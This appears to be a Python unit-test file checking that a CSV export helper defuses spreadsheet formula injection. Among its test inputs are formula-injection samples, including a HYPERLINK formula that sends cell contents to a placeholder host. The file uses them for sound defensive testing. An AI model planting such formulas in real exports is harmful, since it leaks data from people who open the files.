"""No cell of an export is a formula (ASVS 5.0, 1.2.10)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from models.spreadsheet_text import as_text


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://example.org?"&A1)',
        "+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\0=1",
        " =1",
        "\u00a0=1",
        "＝1",  # noqa: RUF001  # the wide sign is what is tested
    ],
)
def test_a_formula_becomes_text(cell: str) -> None:
    assert as_text(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", " ", "Lincoln School", "7", "*", "O'Hara", "'=1", "a=b", "K-8"])
def test_other_text_stays_as_it_is(cell: str) -> None:
    assert as_text(cell) == cell


@given(st.text())
def test_no_text_begins_a_formula_and_none_is_lost(cell: str) -> None:
    safe = as_text(cell)
    assert not safe.lstrip(" \u00a0").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\0"))
    assert safe in (cell, f"'{cell}")
    assert as_text(safe) == safe


@given(st.lists(st.text(st.characters(exclude_characters="\0")), min_size=1))
def test_what_is_written_is_read_back(cells: list[str]) -> None:
    safe = [as_text(cell) for cell in cells]
    target = io.StringIO(newline="")
    csv.writer(target).writerow(safe)
    assert next(csv.reader(io.StringIO(target.getvalue(), newline=""))) == safe
